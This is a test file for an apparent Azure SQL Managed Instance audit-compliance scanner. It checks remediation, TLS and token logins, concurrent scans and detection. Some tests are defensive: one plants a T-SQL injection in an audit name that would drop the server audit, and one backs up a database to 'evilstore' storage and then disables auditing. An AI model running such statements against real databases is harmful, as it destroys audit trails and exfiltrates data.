import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import sql from "mssql";
import { ManagedIdentityCredential } from "@azure/identity";
import { QueueClient } from "@azure/storage-queue";
import type { RunningEmulator } from "../../emulator/server.js";
import { emulatorBaseline, endpointsOf } from "../../emulator/cli.js";
import type { FleetInput } from "../../emulator/fleet/schema.js";
import type { RunningAzurite } from "../../emulator/storage/azurite.js";
import { loadBaselineText } from "../../src/core/policy/load.js";
import type { Baseline } from "../../src/core/policy/schema.js";
import { createScanEnvironment } from "../../src/scan/environment.js";
import type { ScanEnvironment } from "../../src/scan/environment.js";
import { runScan, toTarget } from "../../src/scan/run-scan.js";
import { scanTarget } from "../../src/scan/scan-target.js";
import { startBudget } from "../../src/scan/budget.js";
import type { Budget } from "../../src/scan/budget.js";
import { inlineActivitySource } from "../../src/scan/activity-sweep.js";
import { readManagedInstanceSql } from "../../src/kinds/sql-managed-instance/adapter.js";
import { SqlAuditConnection, SqlStatementError } from "../../src/azure/sql-audit.js";
import { JsonQueue } from "../../src/azure/queues.js";
import { decodeQueueMessage } from "../../src/core/events/build.js";
import { evaluate, openFindings } from "../../src/core/evaluate.js";
import { plan } from "../../src/core/plan.js";
import type { Target } from "../../src/core/domain.js";
import { startEstate, stopEstate } from "../support/estate.js";

// Managed Instances end to end: the SQL adapter (mssql over TDS with TLS checks on) against the emulated
// instances, every drift shape planned, applied and re-read, real error numbers, two scanners at once, injection,
// and the activity physics: a COPY_ONLY backup and an audit switched off between scans become events.
const SUB = "11111111-1111-4111-8111-111111111111";
const SCANNER = { principalId: "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", clientId: "1b2c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5e", displayName: "auditguard-scanner" };
const scannerLogin = { kind: "entra", name: "auditguard-scanner", objectId: SCANNER.principalId, permissions: ["ALTER ANY SERVER AUDIT", "VIEW ANY DEFINITION", "VIEW SERVER STATE"] };
const readOnlyLogin = { ...scannerLogin, permissions: ["VIEW ANY DEFINITION", "VIEW SERVER STATE"] };
const dba = { name: "dba", password: "test-only-Pa55", permissions: ["sysadmin"] };
const diag = [{ name: "audit-to-law", workspace: "law-sec", logs: [{ category: "SQLSecurityAuditEvents" }] }];
const audit = (over: Record<string, unknown> = {}) => ({ name: "auditguard", target: "EXTERNAL_MONITOR", enabled: true, queueDelay: 1000, onFailure: "CONTINUE", ...over });
const spec = (over: Record<string, unknown> = {}) => ({ name: "auditguard-spec", audit: "auditguard", enabled: true, actionGroups: ["BACKUP_RESTORE_GROUP", "AUDIT_CHANGE_GROUP"], ...over });

const drifts: Record<string, Record<string, unknown>> = {
  "mi-compliant": { audits: [audit()], serverAuditSpecifications: [spec()] },
  "mi-audit-missing": { audits: [], serverAuditSpecifications: [] },
  "mi-audit-off": { audits: [audit({ enabled: false })], serverAuditSpecifications: [spec()] },
  "mi-not-started": { audits: [audit({ status: "RUNTIME_FAIL" })], serverAuditSpecifications: [spec()] },
  "mi-wrong-target": { audits: [audit({ target: { type: "URL", path: "https://elsewhere.blob.core.windows.net/audit", retentionDays: 0 } })], serverAuditSpecifications: [spec()] },
  "mi-options": { audits: [audit({ queueDelay: 5000, onFailure: "FAIL_OPERATION" })], serverAuditSpecifications: [spec()] },
  "mi-spec-missing": { audits: [audit()], serverAuditSpecifications: [] },
  "mi-spec-other-audit": { audits: [audit(), audit({ name: "legacy" })], serverAuditSpecifications: [spec({ audit: "legacy" })] },
  "mi-group-missing": { audits: [audit()], serverAuditSpecifications: [spec({ actionGroups: ["AUDIT_CHANGE_GROUP", "FAILED_LOGIN_GROUP"] })] },
  "mi-spec-off": { audits: [audit()], serverAuditSpecifications: [spec({ enabled: false })] },
  "mi-filtered": { audits: [audit({ predicate: "server_principal_name <> 'mallory'" })], serverAuditSpecifications: [spec()] },
  "mi-race": { audits: [], serverAuditSpecifications: [] },
};

function fleet(): FleetInput {
  return {
    tenantId: "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a",
    scanner: { ...SCANNER, roleAssignments: [{ scope: `/subscriptions/${SUB}`, role: "Contributor" }] },
    subscriptions: [
      {
        id: SUB,
        displayName: "MI tests",
        resourceGroups: [
          {
            name: "rg-mi",
            managedInstances: [
              ...Object.entries(drifts).map(([name, state]) => ({ name, dnsZone: "0a1b2c3d4e5f", diagnosticSettings: diag, sql: { logins: [scannerLogin, dba], databases: [{ name: "sales" }], ...state } })),
              { name: "mi-readonly", dnsZone: "0a1b2c3d4e5f", diagnosticSettings: diag, sql: { logins: [readOnlyLogin, dba], audits: [audit({ enabled: false })], serverAuditSpecifications: [spec()] } },
              { name: "mi-activity", dnsZone: "0a1b2c3d4e5f", diagnosticSettings: diag, sql: { logins: [scannerLogin, dba], databases: [{ name: "sales" }], audits: [audit()], serverAuditSpecifications: [spec()] } },
            ],
          },
          { name: "rg-logs", logAnalyticsWorkspaces: [{ name: "law-sec", customerId: "4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a8b" }] },
        ],
      },
    ],
    // Audit rows are visible to the next scan at once (the emulator's default ingestion delay is a few seconds).
    faults: { ingestionDelay: { kind: "fixed", ms: 0 } },
  };
}

const budgets: Budget[] = [];
/** A target budget for a direct read; disposed when the file's tests are done. */
const budget = () => {
  const b = startBudget(30);
  budgets.push(b);
  return b;
};
after(() => budgets.forEach((b) => b.dispose()));

let emu: RunningEmulator;
let azurite: RunningAzurite;
let env: ScanEnvironment;
let baseline: Baseline;
let targets: Map<string, Target>;

before(async () => {
  ({ emu, azurite } = await startEstate({ fleet: fleet() }));
  const generated = emulatorBaseline(emu, endpointsOf(emu)) as Record<string, unknown> & { activity: Record<string, unknown> };
  generated.mode = "enforce";
  generated.activity.lookback = "PT1H";
  generated.activity.allowedBackupStorageAccounts = ["corpbackups"];
  baseline = loadBaselineText(JSON.stringify(generated), "b.json");
  env = createScanEnvironment(baseline, { credential: new ManagedIdentityCredential() });
  targets = new Map(emu.estate.managedInstances().map((r) => [r.name, toTarget({ id: r.id, kind: "sql-managed-instance", name: r.name, subscriptionId: SUB, resourceGroup: "rg-mi", location: "westeurope", tags: {}, properties: r.properties })]));
});

after(async () => {
  await stopEstate(emu, azurite);
});

const connectTo = (name: string) => ({ serverName: targets.get(name)!.fullyQualifiedDomainName!, connect: { host: emu.tds!.host, port: emu.tds!.port } });

async function asDba<T>(name: string, run: (pool: sql.ConnectionPool) => Promise<T>): Promise<T> {
  const pool = new sql.ConnectionPool({
    server: emu.tds!.host,
    port: emu.tds!.port,
    user: dba.name,
    password: dba.password,
    database: "master",
    options: { encrypt: true, trustServerCertificate: false, serverName: targets.get(name)!.fullyQualifiedDomainName!, cryptoCredentialsDetails: { ca: [emu.caPem] } },
  });
  await pool.connect();
  try {
    return await run(pool);
  } finally {
    await pool.close();
  }
}

describe("the TDS endpoint and the SQL adapter", () => {
  it("reads the audit catalog with a token login over verified TLS: one login, one catalog round trip", async () => {
    const before = emu.requestCounts();
    const observed = await readManagedInstanceSql(env, targets.get("mi-compliant")!, budget());
    const after = emu.requestCounts();
    // One login per read: each login is a record in the instance's own audit, so a scan must not add two.
    assert.equal(after.tdsLogins - before.tdsLogins, 1);
    // tedious's session-options batch after login, then the catalog batch.
    assert.equal(after.tdsRequests - before.tdsRequests, 2);
    assert.equal(observed.engineEdition, 8);
    assert.equal(observed.loginName, "auditguard-scanner");
    assert.deepEqual(observed.audits.map((a) => [a.name, a.target.kind, a.isStateEnabled, a.status]), [["auditguard", "EXTERNAL_MONITOR", true, "STARTED"]]);
    assert.deepEqual(observed.specifications.map((s) => [s.name, s.isStateEnabled, s.groups.sort()]), [["auditguard-spec", true, ["AUDIT_CHANGE_GROUP", "BACKUP_RESTORE_GROUP"]]]);
  });

  it("a client that does not trust the emulator's CA is refused by TLS", async () => {
    await assert.rejects(SqlAuditConnection.open(connectTo("mi-compliant"), { credential: new ManagedIdentityCredential() }), /certificate|self[- ]signed|unable to verify/i);
  });

  it("SQL logins: the right password works, a wrong one gets 18456", async () => {
    const one = await asDba("mi-compliant", async (pool) => (await pool.request().query("SELECT 1 AS one")).recordset[0]?.one);
    assert.equal(one, 1);
    await assert.rejects(
      new sql.ConnectionPool({ server: emu.tds!.host, port: emu.tds!.port, user: "dba", password: "wrong", options: { encrypt: true, serverName: targets.get("mi-compliant")!.fullyQualifiedDomainName!, cryptoCredentialsDetails: { ca: [emu.caPem] } } }).connect(),
      /Login failed for user 'dba'/,
    );
  });

  it("an access token in LOGIN7 works; a token for another audience is refused", async () => {
    const options = (token: string) => ({ server: emu.tds!.host, port: emu.tds!.port, authentication: { type: "azure-active-directory-access-token" as const, options: { token } }, options: { encrypt: true, serverName: targets.get("mi-compliant")!.fullyQualifiedDomainName!, cryptoCredentialsDetails: { ca: [emu.caPem] } } });
    const good = new sql.ConnectionPool(options(emu.issueToken("https://database.windows.net/")));
    await good.connect();
    assert.equal((await good.request().query("SELECT SUSER_SNAME() AS who")).recordset[0]?.who, "auditguard-scanner");
    await good.close();
    await assert.rejects(new sql.ConnectionPool(options(emu.issueToken("https://management.azure.com/"))).connect(), /Login failed/);
  });

  it("the instance's own error numbers come back exactly", async () => {
    const connection = await SqlAuditConnection.open(connectTo("mi-compliant"), { credential: env.credential, caPem: emu.caPem });
    try {
      await assert.rejects(connection.applyStatements(["ALTER SERVER AUDIT [no-such-audit] WITH (STATE = ON);"]), (e: unknown) => e instanceof SqlStatementError && e.number === 15151 && e.statementIndex === 0);
      await assert.rejects(connection.applyStatements(["ALTER SERVER AUDIT [auditguard] WITH (QUEUE_DELAY = 2000);"]), (e: unknown) => e instanceof SqlStatementError && e.number === 33071);
      await assert.rejects(connection.applyStatements(["ALTER SERVER AUDIT SPECIFICATION [auditguard-spec] ADD (DBCC_GROUP);"]), (e: unknown) => e instanceof SqlStatementError && e.number === 33229);
    } finally {
      await connection.close();
    }
  });
});

describe("every drift shape: planned, applied over TDS, re-read clean", () => {
  for (const name of Object.keys(drifts).filter((n) => n !== "mi-race" && n !== "mi-spec-other-audit")) {
    it(name, async () => {
      const result = await scanTarget(env, targets.get(name)!, { scanId: `drift-${name}` });
      const expected = name === "mi-compliant" ? "compliant" : "remediated";
      assert.equal(result.status, expected, result.reason);
      const after = await readManagedInstanceSql(env, targets.get(name)!, budget());
      const observation = { target: targets.get(name)!, observedAt: new Date().toISOString(), sql: { ok: true as const, value: after }, diagnosticSettings: { ok: true as const, value: [{ name: "audit-to-law", workspaceId: baseline.managedInstance.diagnosticSetting!.workspaceId, logs: [{ category: "SQLSecurityAuditEvents", enabled: true }] }] } };
      const findings = evaluate(baseline, observation, new Date());
      assert.deepEqual(openFindings(findings).filter((f) => f.ruleId.startsWith("mi.")).map((f) => f.ruleId), []);
      assert.deepEqual(plan(baseline, observation, findings), [], "re-planning finds nothing");
    });
  }

  it("mi-spec-other-audit: the specification of the baseline's name serves another audit: a conflict, reported and left alone", async () => {
    const result = await scanTarget(env, targets.get("mi-spec-other-audit")!, { scanId: "conflict" });
    assert.equal(result.status, "noncompliant");
    assert.deepEqual(result.applied, []);
    assert.match(result.reason ?? "", /specification auditguard-spec is bound to audit legacy, not auditguard/);
    const after = await readManagedInstanceSql(env, targets.get("mi-spec-other-audit")!, budget());
    const legacy = after.audits.find((a) => a.name === "legacy")!;
    assert.equal(after.specifications.find((s) => s.name === "auditguard-spec")?.auditGuid, legacy.auditGuid, "the other audit keeps its specification");
  });

  it("a login without ALTER ANY SERVER AUDIT reads but cannot change, and says which permission is missing", async () => {
    const result = await scanTarget(env, targets.get("mi-readonly")!, { scanId: "ro" });
    assert.equal(result.status, "noncompliant");
    assert.equal(result.failedAction?.error.code, "SQL15247");
    assert.match(result.failedAction?.error.missingPermission ?? "", /ALTER ANY SERVER AUDIT/);
  });
});

describe("two scanners remediating one instance at once", () => {
  it("serialise on the application lock, re-plan under it, and end with one audit and one specification", async () => {
    const target = targets.get("mi-race")!;
    const results = await Promise.all([scanTarget(env, target, { scanId: "race-a" }), scanTarget(env, target, { scanId: "race-b" })]);
    const after = await readManagedInstanceSql(env, target, budget());
    assert.deepEqual(after.audits.map((a) => a.name), ["auditguard"]);
    assert.deepEqual(after.specifications.map((s) => s.name), ["auditguard-spec"]);
    assert.deepEqual(results.map((r) => r.failedAction?.error.code ?? "none"), ["none", "none"], "the second re-plans under the lock instead of replaying a stale plan");
    assert.deepEqual(results.map((r) => r.status).sort(), ["compliant", "remediated"], "one fixed it; the other found nothing left to do");
  });
});

describe("names that could inject T-SQL", () => {
  it("an oddly named audit created by someone else is neither touched nor able to break out of quoting", async () => {
    await asDba("mi-compliant", (pool) => pool.request().batch("CREATE SERVER AUDIT [x]]; DROP SERVER AUDIT [auditguard]] --] TO EXTERNAL_MONITOR;"));
    // The run's own activity read (as the CLI makes one), so the audit change shows too.
    const result = await scanTarget({ ...env, activity: inlineActivitySource(env) }, targets.get("mi-compliant")!, { scanId: "inject" });
    assert.deepEqual(result.plan, [], "nothing to change on the instance");
    // Creating an audit is itself an audit change by someone else: reported as such.
    assert.deepEqual(result.findings.filter((f) => f.status === "fail").map((f) => f.ruleId), ["activity.audit-tampering"]);
    const after = await readManagedInstanceSql(env, targets.get("mi-compliant")!, budget());
    assert.deepEqual(after.audits.map((a) => a.name).sort(), ["auditguard", "x]; DROP SERVER AUDIT [auditguard] --"]);
  });
});

describe("activity between scans becomes events", () => {
  it("a COPY_ONLY backup to an unapproved account and an audit switched off are caught by the next scan", async () => {
    await asDba("mi-activity", async (pool) => {
      await pool.request().batch("BACKUP DATABASE [sales] TO URL = N'https://evilstore.blob.core.windows.net/c/sales.bak' WITH COPY_ONLY;");
      await pool.request().batch("ALTER SERVER AUDIT [auditguard] WITH (STATE = OFF);");
    });
    const events = JsonQueue.connect({ connectionString: azurite.connectionString }, "mi-events");
    const summary = await runScan(env, { trigger: "cli", events });
    const result = summary.results.find((r) => r.target.name === "mi-activity")!;
    assert.ok(result.applied.some((a) => a.kind === "tsql" && /STATE = ON/.test(a.description + (a as { statement: string }).statement)), "the audit was turned back on");
    const queue = new QueueClient(azurite.connectionString, "mi-events");
    const published: Array<{ type: string; subject?: string; data: { kind?: string; evidence?: Array<{ principal: string; statement: string; storageAccount?: string }> } }> = [];
    for (;;) {
      const { receivedMessageItems } = await queue.receiveMessages({ numberOfMessages: 32 });
      if (!receivedMessageItems.length) break;
      for (const m of receivedMessageItems) {
        published.push(decodeQueueMessage(m.messageText) as (typeof published)[number]);
        await queue.deleteMessage(m.messageId, m.popReceipt);
      }
    }
    const mine = published.filter((e) => e.subject === result.target.id && e.type === "com.auditguard.activity.suspicious");
    const kinds = mine.map((e) => e.data.kind).sort();
    assert.deepEqual(kinds, ["audit-tampering", "copy-only-backup", "unapproved-backup-destination"]);
    const copyOnly = mine.find((e) => e.data.kind === "copy-only-backup")!;
    assert.equal(copyOnly.data.evidence?.[0]?.principal, "dba");
    assert.equal(copyOnly.data.evidence?.[0]?.storageAccount, "evilstore");
    assert.ok(published.some((e) => e.type === "com.auditguard.remediation.applied" && e.subject === result.target.id));
  });
});
